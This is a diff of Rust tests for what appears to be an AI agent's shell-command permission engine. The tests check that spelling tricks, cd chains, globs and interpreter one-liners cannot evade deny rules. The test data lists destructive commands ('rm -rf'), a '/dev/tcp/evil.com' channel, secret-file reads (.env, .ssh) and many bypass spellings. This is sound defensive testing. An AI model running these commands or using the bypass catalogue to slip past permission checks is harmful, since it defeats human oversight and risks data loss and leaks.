@@ -77,136 +77,6 @@ fn what_is_denied_in_auto_says_how_it_can_be_allowed() {
 }
 
 #[test]
-fn a_command_is_allowed_only_if_each_of_its_programs_is() {
-    let (_machine, engine) =
-        asking("allow = [\"bash(cargo test *)\", \"Bash(git:*)\", \"bash(deploy hi)\"]");
-    let allowed = [
-        "cargo test",
-        "cargo test -p x",
-        "git push",
-        "cargo test && git push",
-        "deploy hi; ls",
-        "timeout 5 cargo test",
-        "/usr/bin/git push",
-        "bash -c 'git push'",
-        "git commit -m \"$MESSAGE\"",
-    ];
-    for command in allowed {
-        assert_eq!(bash(command).decided(&engine), Allow, "{command}");
-    }
-    let asked = [
-        "cargo build",
-        "cargo test && rm -rf x",
-        "sudo git push",
-        "deploy hi there",
-        "$CARGO test",
-        "cargo $SUBCOMMAND",
-        "./git push",
-        "git push | sh",
-        "cargo test > /etc/x",
-        "git push $(rm x)",
-        "LD_PRELOAD=x git push",
-        "eval \"$X\"",
-        "git push; \"${a[0]}\"",
-    ];
-    for command in asked {
-        assert_eq!(bash(command).decided(&engine), Ask, "{command}");
-    }
-}
-
-#[test]
-fn a_command_is_denied_however_it_is_spelt() {
-    let (_machine, engine) = asking(
-        "allow = [\"bash\"]\ndeny = [\"bash(git push *)\", \"bash(rm -rf *)\", \"bash(docker *)\"]",
-    );
-    let denied = [
-        "git push",
-        "git  push origin",
-        "/usr/bin/git push",
-        "git -C /tmp push",
-        "git --no-pager push",
-        "git -c a=b push -f",
-        "sudo git push",
-        "env A=1 git push",
-        "bash -c 'git push'",
-        "true && git push",
-        "echo $(git push)",
-        "xargs git push",
-        "rm -rf x",
-        "rm -fr x",
-        "rm -r -f x",
-        "rm x -rf",
-        "\\git push",
-        "g'i't push",
-        "nohup git push &",
-        "docker run x",
-        "find . -exec rm -rf {} +",
-    ];
-    for command in denied {
-        assert_eq!(bash(command).decided(&engine), Deny, "{command}");
-    }
-    // What may be it is asked about, whatever else is allowed.
-    for command in ["git $X", "$X push", "eval \"$X\""] {
-        assert_eq!(bash(command).decided(&engine), Ask, "{command}");
-    }
-    for command in ["git pull", "git commit -m push", "rm -r x", "echo git push"] {
-        assert_eq!(bash(command).decided(&engine), Allow, "{command}");
-    }
-}
-
-#[test]
-fn what_may_be_a_denied_command_is_asked_about() {
-    let (_machine, engine) = asking(
-        "allow = [\"bash\"]\ndeny = [\"bash(kubectl delete *)\", \"bash(rm *)\", \"bash(npm publish *)\", \
-         \"bash(docker compose down *)\", \"bash(git push *)\"]",
-    );
-    let asked = [
-        // An option that is not known may take the next word.
-        "kubectl --as admin delete pod x",
-        "kubectl --as admin --token t delete pod x",
-        "npm --registry http://x publish",
-        "docker compose -f x.yml down",
-        // Programs that are not known may run others.
-        "choom -n 0 -- rm x",
-        "unheard-of rm x",
-        "unheard-of -v /bin/rm x",
-        "./x.sh rm x",
-        "rustup run stable rm x",
-        "bash5.2 -c \"$X\"",
-        "yash -c 'rm x'",
-        "aria2c --on-download-complete=rm x",
-        "install -s --strip-program=rm a b",
-        "gpg --photo-viewer 'rm x' -k",
-        "pdflatex -shell-escape x",
-        // A text in another language names it.
-        "python3 -c 'import os; os.system(\"rm x\")'",
-        "perl -e 'exec q(/bin/rm), q(x)'",
-        "dc -e '!rm x'",
-    ];
-    for command in asked {
-        assert_eq!(bash(command).decided(&engine), Ask, "{command}");
-    }
-    for command in ["coreutils rm x", "bash5.2 -c 'rm x'"] {
-        assert_eq!(bash(command).decided(&engine), Deny, "{command}");
-    }
-    let allowed = [
-        "kubectl get pods --as admin",
-        "grep -r rm src",
-        "which rm",
-        "mkdir rm",
-        "git rm x",
-        "apt-get install rm",
-        "git --no-pager log push",
-        "python3 -c 'print(1)'",
-        "python3 x.py --form",
-        "cargo test -- rm",
-    ];
-    for command in allowed {
-        assert_eq!(bash(command).decided(&engine), Allow, "{command}");
-    }
-}
-
-#[test]
 fn the_higher_layer_is_right_but_any_deny_wins() {
     let machine = Machine::new(&[
         ("etc/config.toml", "[permissions]\nallow = [\"bash(sys *)\", \"bash(both *)\"]\n"),
@@ -299,6 +169,79 @@ fn a_path_is_judged_as_it_is_written_and_as_it_really_is() {
 }
 
 #[test]
+fn files_are_judged_wherever_cd_may_have_led() {
+    let machine = Machine::new(&[
+        (
+            "config/config.toml",
+            "[permissions]\ndeny = [\"read(priv)\", \"write(priv)\", \"net(evil.com)\"]\n",
+        ),
+        ("work/priv/f", ""),
+        ("work/sub/.env", ""),
+        ("work/.env", ""),
+        ("home/.ssh/x", ""),
+    ]);
+    let bypass = machine.in_mode(Mode::Bypass);
+    let file = machine.path("work/priv/f").display().to_string();
+    let absolute = ["> FILE", "cat FILE", "cat < FILE"]
+        .map(|line| format!("cd .; {}", line.replace("FILE", &file)));
+    let relative = [
+        "cd .; cat priv/f",
+        "cd priv; cat f",
+        "cd priv; echo x > f",
+        "cd src; cd ../priv; cat f",
+        "cd src || cat priv/f",
+        "! cd src && cat priv/f",
+        "cd priv; cd -; cat priv/f",
+        "pushd priv; cat f",
+        "pushd priv; popd; echo x > priv/f",
+        "cd \"$X\"; cat priv/f",
+        "for i in 1; do cd priv; cat f; done",
+        "f() { cat f; }; cd priv; f",
+        "cd ~; cat ../work/priv/f",
+        "cd .; (cd priv; cat f)",
+        "cd .; cat pri*/f",
+        "cd .; cat < /dev/tcp/evil.com/80",
+        "cd -; cat < /dev/udp/evil.com/80",
+    ];
+    for command in absolute.iter().map(String::as_str).chain(relative) {
+        assert_eq!(bash(command).decided(&bypass), Deny, "{command}");
+    }
+    for command in ["cd priv2; cat f", "cd src; cat f; echo x > g", "cd - && make all"] {
+        assert_eq!(bash(command).decided(&bypass), Allow, "{command}");
+    }
+    let plan = machine.in_mode(Mode::Plan);
+    for command in ["cd .; cat .env", "cd sub; cat .env", "cd ~/.ssh; cat x", "cd $X; cat .env"] {
+        assert_eq!(bash(command).decided(&plan), Deny, "{command}");
+    }
+}
+
+#[test]
+fn where_a_folder_is_not_known_rules_about_files_ask() {
+    let (machine, engine) = asking(
+        "allow = [\"bash\"]\ndeny = [\"read(priv)\", \"write(x/*.lock)\"]\n[sandbox]\nprofile = \"off\"",
+    );
+    for command in ["cd \"$X\" && cat f", "cd - && rm f", "cd $X && wc < f", "popd; sort /x y"] {
+        assert_eq!(bash(command).decided(&engine), Ask, "{command}");
+    }
+    for command in
+        ["cd \"$X\" && cat /f", "cd src && cat f", "cd src; cargo test", "cd $X && ls -l"]
+    {
+        assert_eq!(bash(command).decided(&engine), Allow, "{command}");
+    }
+    drop(machine);
+    // The sandbox keeps what is denied. What is asked about it does not.
+    let decided = |rules: &str| {
+        let machine = Machine::new(&[("config/config.toml", &format!("[permissions]\n{rules}"))]);
+        let engine = machine.in_mode(Mode::Auto);
+        ["cd $X && cat f", "cd sub && cargo test", "cd sub; cargo test"]
+            .map(|command| bash(command).decided(&engine))
+    };
+    assert_eq!(decided(""), [Allow; 3]);
+    assert_eq!(decided("deny = [\"read(priv)\"]"), [Allow; 3]);
+    assert_eq!(decided("ask = [\"read(priv)\"]"), [Deny, Allow, Allow]);
+}
+
+#[test]
 fn secrets_are_asked_about_and_examples_of_them_are_not() {
     let machine = Machine::new(&[
         ("config/config.toml", "[permissions]\nallow = [\"read(**)\", \"read(.env.ci)\"]\n"),
@@ -348,6 +291,13 @@ fn a_word_that_may_name_a_secret_is_taken_for_it() {
         "cat .e*",
         "cat .en?",
         "cat .[e]nv",
+        "cat .en[[:alpha:]]",
+        "cat .en[![:digit:]x]",
+        "cat .en[[=v=]]",
+        "cat .e[]n]v",
+        "cat .en{v..v}",
+        "cat .e{a..z}v",
+        "cat .e{z..a}v x{1..9}",
         "cat {.env,x}",
         "cat .e{n,}v",
         "cat a/{b,.{env,x}}",
@@ -362,7 +312,9 @@ fn a_word_that_may_name_a_secret_is_taken_for_it() {
     for command in denied {
         assert_eq!(bash(command).decided(&engine), Deny, "{command}");
     }
-    for command in ["cat a/*", "ls a/*.rs", "cat $x", "cat .{a,b}", "cat [", "cat '.e*'"] {
+    for command in
+        ["cat a/*", "ls a/*.rs", "cat $x", "cat .{a,b}", "cat [", "cat '.e*'", "cat .[[:alpha:]]"]
+    {
         assert_eq!(bash(command).decided(&engine), Allow, "{command}");
     }
 }
